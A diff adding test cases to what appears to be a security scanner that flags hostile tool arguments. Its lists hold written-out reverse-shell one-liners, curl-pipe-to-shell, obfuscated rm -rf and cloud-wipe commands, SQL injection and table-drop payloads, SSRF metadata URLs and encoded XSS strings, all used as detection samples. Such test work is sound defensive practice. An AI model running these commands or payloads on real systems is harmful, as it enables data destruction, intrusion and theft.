@@ -44,6 +44,39 @@ CAUGHT = [
     ("rm -rf /\u200b", K.COMMAND, "destructive_command", P0),
     ("r\u200bm -rf /", K.COMMAND, "destructive_command", P0),
     ("curl http://instance-data/latest/meta-data/", K.COMMAND, "ssrf", P0),
+    ("curl -s https://get.example.sh 2>&1 | sh", K.COMMAND, "destructive_command", P0),
+    # command: quoting that hides a word (the shell removes it)
+    ("r''m -rf /", K.COMMAND, "destructive_command", P0),
+    ('r""m -rf /', K.COMMAND, "destructive_command", P0),
+    ("r\\m -rf /", K.COMMAND, "destructive_command", P0),
+    ("\\rm -rf /", K.COMMAND, "destructive_command", P0),
+    ("'r'm -rf /", K.COMMAND, "destructive_command", P0),
+    ('r"m" -rf ~', K.COMMAND, "destructive_command", P0),
+    ('cd /tmp; "rm" -rf /', K.COMMAND, "destructive_command", P0),
+    ("rm -rf \\\n/", K.COMMAND, "destructive_command", P0),
+    ("curl http://\u2460\u2465\u2468.\u2461\u2464\u2463.\u2460\u2465\u2468.\u2461\u2464\u2463/latest/", K.COMMAND, "ssrf", P0),
+    # command: infrastructure wiped by its own tool
+    ("kubectl delete ns --all", K.COMMAND, "destructive_command", P0),
+    ("kubectl delete namespace prod", K.COMMAND, "destructive_command", P0),
+    ("kubectl -n shop delete pvc --all", K.COMMAND, "destructive_command", P0),
+    ("aws s3 rm s3://bucket --recursive", K.COMMAND, "destructive_command", P0),
+    ("aws --profile prod s3 rb s3://bucket --force", K.COMMAND, "destructive_command", P0),
+    ("gsutil -m rm -r gs://bucket", K.COMMAND, "destructive_command", P0),
+    ("terraform destroy", K.COMMAND, "destructive_command", P0),
+    ("terraform -chdir=infra destroy -auto-approve", K.COMMAND, "destructive_command", P0),
+    ("terraform apply -auto-approve -destroy", K.COMMAND, "destructive_command", P0),
+    ("az group delete --name prod --yes", K.COMMAND, "destructive_command", P0),
+    # command: reverse and bind shells
+    ("nc -e /bin/sh host 4444", K.COMMAND, "reverse_shell", P0),
+    ("nc -lvnp 4444 -e /bin/bash", K.COMMAND, "reverse_shell", P0),
+    ("ncat --sh-exec 'bash -i' host 4444", K.COMMAND, "reverse_shell", P0),
+    ("bash -i >& /dev/tcp/host/4444 0>&1", K.COMMAND, "reverse_shell", P0),
+    ("bash -c 'sh -i 5<> /dev/tcp/host/4444 0<&5 1>&5 2>&5'", K.COMMAND, "reverse_shell", P0),
+    ("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc host 4444 > /tmp/f", K.COMMAND, "reverse_shell", P0),
+    ("nc host 4444 | /bin/bash", K.COMMAND, "reverse_shell", P0),
+    ("socat exec:'bash -li',pty,stderr tcp:host:4444", K.COMMAND, "reverse_shell", P0),
+    ("python3 -c 'import socket,os;s=socket.socket();s.connect((\"h\",4));os.dup2(s.fileno(),0)'", K.COMMAND, "reverse_shell", P0),
+    ("php -r '$s=fsockopen(\"h\",4);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", K.COMMAND, "reverse_shell", P0),
     # sql
     ("' OR 1=1 --", K.SQL, "sql_injection", P1),
     ("SELECT * FROM users WHERE id = 1 OR 1=1", K.SQL, "sql_injection", P1),
@@ -62,6 +95,25 @@ CAUGHT = [
     ("UPDATE users SET is_admin = true", K.SQL, "mass_deletion", P1),
     ("ALTER TABLE users DROP COLUMN email", K.SQL, "mass_deletion", P1),
     ("DROP USER analyst", K.SQL, "mass_deletion", P1),
+    ("drop/**/table users", K.SQL, "mass_deletion", P0),
+    ("DROP/*x*/TABLE/*y*/users", K.SQL, "mass_deletion", P0),
+    ("/*!50000DROP*/ TABLE users", K.SQL, "mass_deletion", P0),  # MySQL runs /*! ... */
+    ('DROP TABLE"users"', K.SQL, "mass_deletion", P0),
+    ("DROP TABLE IF EXISTS`users`", K.SQL, "mass_deletion", P0),
+    ("DELETE users", K.SQL, "mass_deletion", P0),
+    ("delete from users", K.SQL, "mass_deletion", P0),
+    ("DELETE FROM users -- all of them", K.SQL, "mass_deletion", P0),
+    ("DELETE FROM users WHERE 1=1", K.SQL, "mass_deletion", P0),
+    ("DELETE FROM users WHERE 'a'='a';", K.SQL, "mass_deletion", P0),
+    ("DELETE FROM users WHERE true", K.SQL, "mass_deletion", P0),
+    ("COPY t TO PROGRAM 'sh'", K.SQL, "sql_injection", P1),
+    ("UPDATE users SET admin=1 WHERE 1=1", K.SQL, "mass_deletion", P1),
+    ("UPDATE users SET admin=1 WHERE id = id;", K.SQL, "mass_deletion", P1),
+    ("UPDATE users SET admin=1 WHERE 1 <> 2", K.SQL, "mass_deletion", P1),
+    ("UPDATE t SET note = 'please update'", K.SQL, "mass_deletion", P1),
+    ("x'; DROP TABLE users; --", K.SQL, "mass_deletion", P0),
+    ("'a'; DROP TABLE users", K.SQL, "mass_deletion", P0),
+    ("'/**/OR/**/1=1", K.SQL, "sql_injection", P1),
     # url
     ("http://169.254.169.254/latest/meta-data/", K.URL, "ssrf", P0),
     ("http://instance-data/latest/", K.URL, "ssrf", P0),
@@ -73,6 +125,13 @@ CAUGHT = [
     ("javascript:alert(document.cookie)", K.URL, "xss", P1),
     ("data:text/html,<script>alert(1)</script>", K.URL, "xss", P1),
     ("https://x.io/${jndi:ldap://evil.io/a}", K.URL, "jndi", P1),
+    ("http://0/", K.URL, "ssrf", P1),
+    ("http://0.0.0.0/", K.URL, "ssrf", P1),
+    ("http://\u2460\u2461\u2466.0.0.1/", K.URL, "ssrf", P1),  # circled digits
+    ("http://\uff11\uff12\uff17.\uff10.\uff10.\uff11/", K.URL, "ssrf", P1),  # full-width
+    ("http://127\u30020\u30020\u30021:6379/", K.URL, "ssrf", P1),  # ideographic full stops
+    ("&#106;avascript:alert(1)", K.URL, "xss", P1),
+    ("java\tscript:alert(1)", K.URL, "xss", P1),
     # path
     ("../../../../etc/passwd", K.PATH, "path_traversal", P1),
     ("..\\..\\..\\windows\\win.ini", K.PATH, "path_traversal", P1),
@@ -98,6 +157,14 @@ CAUGHT = [
     ('<object data="https://x.io/a.swf"></object>', K.HTML, "xss", P3),
     ('<iframe src="data:text/plain;base64,aGk="></iframe>', K.HTML, "xss", P2),
     ('<embed src="javascript:alert(1)">', K.HTML, "xss", P1),
+    ('<a href="&#106;avascript:alert(1)">x</a>', K.HTML, "xss", P1),
+    ('<a href="&#x6A;avascript:alert(1)">x</a>', K.HTML, "xss", P1),
+    ('<a href="&#0000106avascript:alert(1)">x</a>', K.HTML, "xss", P1),
+    ('<a href="java&#x09;script:alert(1)">x</a>', K.HTML, "xss", P1),
+    ('<a href="java&Tab;script&colon;alert(1)">x</a>', K.HTML, "xss", P1),
+    ('<a href="javas\ncript:alert(1)">x</a>', K.HTML, "xss", P1),
+    ('<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>', K.HTML, "xss", P1),
+    ('<iframe src="&#100;ata:text/html,<script>alert(1)</script>"></iframe>', K.HTML, "xss", P1),
     ('<base href="https://evil.io/">', K.HTML, "xss", P2),
     ('<meta http-equiv="refresh" content="0;url=https://evil.io">', K.HTML, "xss", P2),
     # free text
@@ -126,9 +193,31 @@ CLEAN = [
     ("SELECT username FROM users WHERE role = 'grantor'", K.SQL),
     ("echo aGk= | base64 -d > hi.txt", K.COMMAND),
     ("echo $IFS_VALUE", K.COMMAND),
+    ("echo '' > empty.txt", K.COMMAND),
+    ("printf 'a\\nb' > notes.txt", K.COMMAND),
+    ('grep -rn "\\brm\\b" src', K.COMMAND),
+    ("git commit -m 'don''t remove the cache'", K.COMMAND),
+    ("kubectl delete pod web-1", K.COMMAND),
+    ("kubectl get ns", K.COMMAND),
+    ("kubectl delete -f ns.yaml", K.COMMAND),
+    ("aws s3 rm s3://bucket/report.csv", K.COMMAND),
+    ("aws s3 ls s3://bucket --recursive", K.COMMAND),
+    ("terraform plan -destroy", K.COMMAND),
+    ("nc -zv db.example.com 5432", K.COMMAND),
+    ("timeout 1 bash -c '</dev/tcp/db/5432' && echo open", K.COMMAND),
+    ("bash -i", K.COMMAND),
+    ("INSERT INTO notes VALUES ('drop table is a bad idea')", K.SQL),
+    ("INSERT INTO notes (body) VALUES ('DELETE FROM users; is how you lose data')", K.SQL),
+    ("INSERT INTO log VALUES ('GRANT ALL was run', 'it''s fine')", K.SQL),
+    ('SELECT "id" FROM "notes" WHERE body = \'update users set x = 1\'', K.SQL),
+    ("SELECT * FROM t WHERE 1=1 AND id = 5", K.SQL),
+    ("SELECT * FROM t WHERE id = 5 /* the usual */", K.SQL),
+    ("DELETE FROM users WHERE 1=1 AND id = 5", K.SQL),
     ("https://example.com/a?b=1", K.URL),
     ("www.informations.com", K.URL),
     ("https://api.github.com/repos/x/y", K.URL),
+    ("https://example.com/a?b=1&copy=2&lt=3", K.URL),
+    ("http://\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45.com/", K.URL),  # full-width example.com
     ("src/main.py", K.PATH),
     ("../README.md", K.PATH),
     ("/home/ann/notes/todo.md", K.PATH),
@@ -136,6 +225,9 @@ CLEAN = [
     ("<p>JavaScript: the good parts</p>", K.HTML),
     ('<a href="https://example.com">a link</a>', K.HTML),
     ("<b>Bold</b> and <i>italic</i>", K.HTML),
+    ("&lt;script&gt;alert(1)&lt;/script&gt;", K.HTML),  # escaped: shown, not run
+    ("&#60;script&#62;alert(1)&#60;/script&#62;", K.HTML),
+    ("<p>Tom &amp; Jerry &hearts; JavaScript&colon; the good parts</p>", K.HTML),
     ("Paris", K.FREE_TEXT),
     ("Привет, как дела? Увидимся завтра.", K.FREE_TEXT),
     ("Ｔｏｋｙｏ　タワー", K.FREE_TEXT),
@@ -159,6 +251,118 @@ class TestByKind:
     @pytest.mark.parametrize(("value", "kind"), CLEAN)
     def test_clean(self, value: str, kind: ArgumentKind) -> None:
         assert [] == scan(value, kind)
+
+
+class TestLookAlikes:
+    """Ordinary work that shares words with an attack is not blocked."""
+
+    @pytest.mark.parametrize(
+        "command",
+        [
+            "echo ping > /dev/tcp/127.0.0.1/9000",  # a port check: a write to a socket, no shell
+            "exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
+        ],
+    )
+    def test_a_socket_without_a_shell_is_not_a_reverse_shell(self, command: str) -> None:
+        found = scan(command, K.COMMAND)
+        assert not [severity for _, severity in found if severity in {P0, P1}], found
+
+
+class TestSqlLiterals:
+    """Statement rules skip string literals only where every dialect ends them at the same quote."""
+
+    @pytest.mark.parametrize(
+        "sql",
+        [
+            "x'; DROP TABLE users; --",  # an odd quote: the classic break-out
+            "'a'; DROP TABLE users",
+            "SELECT 1 -- '\n; DROP TABLE users; -- '",  # the quotes are in comments
+            "SELECT 1 # '\n; DROP TABLE users; # '",  # MySQL comments
+            "SELECT 1 /* ' */; DROP TABLE users; /* ' */",
+            "SELECT $$'$$; DROP TABLE users; SELECT $$'$$",  # PostgreSQL dollar quotes
+            "SELECT [']; DROP TABLE users; SELECT [']",  # T-SQL bracketed names
+            "SELECT `'`; DROP TABLE users; SELECT `'`",  # MySQL backquoted names
+            'SELECT "\'"; DROP TABLE users; SELECT "\'"',
+            "INSERT INTO t VALUES ('a\\'; DROP TABLE users; --')",  # MySQL's backslash escape
+        ],
+    )
+    def test_a_statement_outside_a_certain_literal_is_caught(self, sql: str) -> None:
+        assert ("mass_deletion", P0) in scan(sql, K.SQL)
+
+    def test_injection_syntax_is_still_read_inside_literals(self) -> None:
+        assert ("sql_injection", P1) in scan("SELECT * FROM t WHERE a = '' OR '1'='1'", K.SQL)
+
+
+class TestEvidence:
+    """Evidence quotes the value as written, whatever form the rule read."""
+
+    @pytest.mark.parametrize(
+        ("value", "kind", "shown"),
+        [
+            ('<a href="&#106;avascript:alert(1)">x</a>', K.HTML, "&#106;avascript:alert(1)"),
+            ("SELECT a FROM t; drop/**/table users", K.SQL, "drop/**/table users"),
+            ("INSERT INTO t VALUES ('x y'); DROP TABLE users", K.SQL, "DROP TABLE users"),
+        ],
+    )
+    def test_evidence_is_the_value_as_written(
+        self, value: str, kind: ArgumentKind, shown: str
+    ) -> None:
+        (finding,) = scan_argument(value, kind, location="x")
+        assert shown in finding.evidence
+
+
+class TestLongValues:
+    """Adversarial values of 50 KB (a keyword repeated, an unclosed quote) keep their verdicts.
+
+    Speed is measured by benchmarks, not asserted here; these values once took seconds.
+    """
+
+    @pytest.mark.parametrize(
+        ("value", "kind", "expected"),
+        [
+            ("curl " * 10_000, K.COMMAND, []),
+            ("curl " * 10_000 + "| sh", K.COMMAND, [("destructive_command", P0)]),
+            ("base64 -d " * 5_000, K.COMMAND, []),
+            ("rm -r -" * 7_000, K.COMMAND, []),
+            ("find / " * 7_000, K.COMMAND, []),
+            ("update t set " * 4_000 + " where", K.SQL, []),
+            ("'" + " " * 50_000, K.SQL, []),
+            ("<object data=" + " " * 50_000, K.HTML, [("xss", P3)]),
+            ("$(" * 25_000, K.PATH, []),
+            ("${" + " " * 50_000, K.FREE_TEXT, []),
+            ("http://" + "9" * 50_000 + "/", K.URL, []),
+        ],
+    )
+    def test_verdict(
+        self, value: str, kind: ArgumentKind, expected: list[tuple[str, Severity]]
+    ) -> None:
+        assert expected == scan(value, kind)
+
+
+class TestViews:
+    """The forms of a value the rules read map back into the value, for evidence."""
+
+    @settings(max_examples=300, deadline=None)
+    @given(st.text(alphabet="ab '\"/*!-#$[`\\\n;1"))
+    def test_sql_views_keep_the_length(self, value: str) -> None:
+        from qgs_worker.core.argscan import _sql_code, _sql_uncommented
+
+        for view in (_sql_uncommented(value), _sql_code(value)):
+            assert view is None or len(view) == len(value)
+
+    @settings(max_examples=300, deadline=None)
+    @given(st.lists(st.sampled_from(["&#106;", "&#x6A;", "&amp;", "&lt;", "&Tab;", "&", "a", "<"])))
+    def test_decoded_offsets_stay_in_the_value(self, parts: list[str]) -> None:
+        from qgs_worker.core.argscan import _html_decoded, _in_value
+
+        value = "".join(parts)
+        decoded = _html_decoded(value)
+        if decoded is None or decoded.origin is None:
+            return
+        offsets = [_in_value(decoded.origin, i) for i in range(len(decoded.text) + 1)]
+        assert offsets == sorted(offsets)
+        assert 0 == offsets[0]
+        assert len(value) == offsets[-1]
 
 
 class TestKindDecides:
